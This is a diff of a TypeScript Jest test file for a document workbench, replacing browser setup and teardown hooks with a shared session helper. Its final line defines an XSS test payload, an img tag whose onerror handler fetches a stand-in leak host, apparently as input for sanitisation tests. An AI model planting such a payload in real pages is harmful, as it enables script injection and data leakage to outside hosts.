@@ -11,28 +11,21 @@ import {
   zipOf,
 } from "../support/zipOf";
 import { documentXml, run } from "../support/docxOf";
-import { type Stage, startStage } from "./support/browser";
 import { withFindings } from "./support/planFiles";
-import { mendAll, type PlanFile, until, Workbench } from "./support/Workbench";
+import { freshWorkbench } from "./support/sessions";
+import {
+  mendAll,
+  type PlanFile,
+  until,
+  type Workbench,
+} from "./support/Workbench";
 
 jest.setTimeout(180_000);
 
-let stage: Stage;
 let workbench: Workbench;
 
-beforeAll(async () => {
-  stage = await startStage();
-});
-
-afterAll(() => stage.close());
-
-beforeEach(async () => {
-  workbench = await Workbench.open(stage);
-});
-
-afterEach(async () => {
-  await workbench.close();
-  expect(workbench.troubles).toEqual([]);
+freshWorkbench((opened) => {
+  workbench = opened;
 });
 
 const image = `<img src=x onerror="fetch('http://leak.example/')">`;
